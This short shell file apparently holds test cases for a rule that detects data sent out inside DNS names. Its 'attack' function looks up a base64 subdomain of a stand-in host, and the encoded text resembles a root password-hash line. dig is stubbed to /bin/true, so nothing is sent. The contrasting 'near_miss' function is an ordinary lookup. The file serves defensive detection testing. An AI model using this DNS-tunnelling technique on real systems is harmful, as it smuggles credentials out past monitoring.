# rule: Data sent out in a DNS name
# where: host
attack() {
    ln -s /bin/true dig
    ./dig +short cm9vdDokNiRhYmNkZWZnaCRpamtsbW5vcHFyc3R1dnd4.1.t.example.net
}
near_miss() {
    ln -s /bin/true dig
    ./dig +short www.t.example.net
}
